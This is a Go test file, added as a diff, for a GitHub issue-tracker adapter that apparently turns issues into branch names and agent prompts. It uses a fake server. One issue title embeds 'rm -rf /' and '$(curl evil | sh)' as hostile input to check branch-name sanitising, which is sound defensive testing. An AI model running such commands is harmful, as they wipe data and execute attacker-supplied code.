@@ -1,0 +1,112 @@
+package github
+
+import (
+	"context"
+	"errors"
+	"testing"
+
+	. "github.com/onsi/gomega"
+
+	"github.com/shepherd-dev/shepherd/internal/gitref"
+	"github.com/shepherd-dev/shepherd/internal/scm"
+	"github.com/shepherd-dev/shepherd/internal/tracker"
+	"github.com/shepherd-dev/shepherd/test/fakegithub"
+)
+
+func setup(t *testing.T) (*fakegithub.Server, tracker.Tracker) {
+	t.Helper()
+	g := NewWithT(t)
+	fake, err := fakegithub.New(fakegithub.Options{Dir: t.TempDir()})
+	g.Expect(err).NotTo(HaveOccurred())
+	g.Expect(fake.Start("127.0.0.1:0")).To(Succeed())
+	t.Cleanup(func() { _ = fake.Close() })
+	fake.AddToken("tok", "bot")
+	_, err = fake.CreateRepo("acme/widgets", "main", nil)
+	g.Expect(err).NotTo(HaveOccurred())
+	tr, err := tracker.New(tracker.Config{Provider: "github", APIURL: fake.URL(), Token: []byte("tok"), Repo: scm.Repo{Owner: "acme", Name: "widgets"}})
+	g.Expect(err).NotTo(HaveOccurred())
+	return fake, tr
+}
+
+func TestGitHubIssueToBranchAndPrompt(t *testing.T) {
+	g := NewWithT(t)
+	fake, tr := setup(t)
+	ctx := context.Background()
+	title := "Fix `rm -rf /`; $(curl evil | sh) — ünïcödé 🚀 " + string(make([]byte, 0)) + "and a very long tail that goes on and on and on and on and on and on and on and on and on and on and on and on and on and on and on and on and on and on and on and on and on and on and on and on and on and on and on and on and on and on and on and on"
+	n, err := fake.CreateIssue("acme/widgets", fakegithub.Issue{Title: title, Body: "Steps: run `make`", Labels: []string{"bug"}})
+	g.Expect(err).NotTo(HaveOccurred())
+	g.Expect(fake.CommentIssue("acme/widgets", n, "alice", "Also on mobile")).To(Succeed())
+
+	is, err := tr.GetIssue(ctx, "#1")
+	g.Expect(err).NotTo(HaveOccurred())
+	g.Expect(is.ID).To(Equal("1"))
+	g.Expect(is.Title).To(Equal(title))
+	g.Expect(is.Labels).To(ConsistOf("bug"))
+	g.Expect(is.URL).To(HaveSuffix("/acme/widgets/issues/1"))
+	g.Expect(is.Comments).To(HaveLen(1))
+	g.Expect(is.Comments[0].Author).To(Equal("alice"))
+
+	branch, err := tracker.BranchName("shepherd/", is)
+	g.Expect(err).NotTo(HaveOccurred())
+	g.Expect(gitref.ValidateBranch(branch)).To(Succeed())
+	g.Expect(branch).To(HavePrefix("shepherd/1-fix-rm-rf-curl-evil-sh"))
+
+	prompt, err := tracker.RenderPrompt("", tracker.NewPromptData(is, tracker.PromptProject{Name: "w", Repository: "acme/widgets"}, branch))
+	g.Expect(err).NotTo(HaveOccurred())
+	g.Expect(prompt).To(ContainSubstring(title))
+	g.Expect(prompt).To(ContainSubstring("alice: Also on mobile"))
+}
+
+func TestGitHubLabelsCompletionAndList(t *testing.T) {
+	g := NewWithT(t)
+	fake, tr := setup(t)
+	ctx := context.Background()
+	a, _ := fake.CreateIssue("acme/widgets", fakegithub.Issue{Title: "A", Labels: []string{"agent:backlog"}})
+	b, _ := fake.CreateIssue("acme/widgets", fakegithub.Issue{Title: "B", Labels: []string{"agent:backlog", "p1"}})
+	_, _ = fake.CreateIssue("acme/widgets", fakegithub.Issue{Title: "C"})
+	// A pull request shares the issue numbers and must not be listed.
+	_, err := fake.Push("acme/widgets", "pr-branch", map[string]string{"x": "y"}, "x")
+	g.Expect(err).NotTo(HaveOccurred())
+	_, err = fake.OpenPullRequest("acme/widgets", "bot", "pr-branch", "main", "PR", "", false)
+	g.Expect(err).NotTo(HaveOccurred())
+
+	list, err := tr.ListIssues(ctx, tracker.ListOptions{Labels: []string{"agent:backlog"}})
+	g.Expect(err).NotTo(HaveOccurred())
+	g.Expect(list).To(HaveLen(2))
+	g.Expect(list[0].Title).To(Equal("B")) // newest first
+
+	list, err = tr.ListIssues(ctx, tracker.ListOptions{Labels: []string{"agent:backlog", "p1"}})
+	g.Expect(err).NotTo(HaveOccurred())
+	g.Expect(list).To(HaveLen(1))
+
+	g.Expect(tr.AddLabels(ctx, itoa(a), "agent:in-progress")).To(Succeed())
+	g.Expect(tr.RemoveLabels(ctx, itoa(a), "agent:backlog", "never-there")).To(Succeed())
+	labels, _ := fake.IssueLabels("acme/widgets", a)
+	g.Expect(labels).To(ConsistOf("agent:in-progress"))
+
+	done, err := tr.IsCompleted(ctx, itoa(b))
+	g.Expect(err).NotTo(HaveOccurred())
+	g.Expect(done).To(BeFalse())
+	g.Expect(fake.CloseIssue("acme/widgets", b)).To(Succeed())
+	done, err = tr.IsCompleted(ctx, itoa(b))
+	g.Expect(err).NotTo(HaveOccurred())
+	g.Expect(done).To(BeTrue())
+
+	_, err = tr.GetIssue(ctx, "999")
+	g.Expect(errors.Is(err, tracker.ErrNotFound)).To(BeTrue())
+	_, err = tr.GetIssue(ctx, "ENG-1")
+	g.Expect(errors.Is(err, tracker.ErrInvalidID)).To(BeTrue())
+	_, err = tr.GetIssue(ctx, "4") // the pull request
+	g.Expect(errors.Is(err, tracker.ErrInvalidID)).To(BeTrue())
+}
+
+func itoa(n int) string {
+	if n == 0 {
+		return "0"
+	}
+	s := ""
+	for ; n > 0; n /= 10 {
+		s = string(rune('0'+n%10)) + s
+	}
+	return s
+}
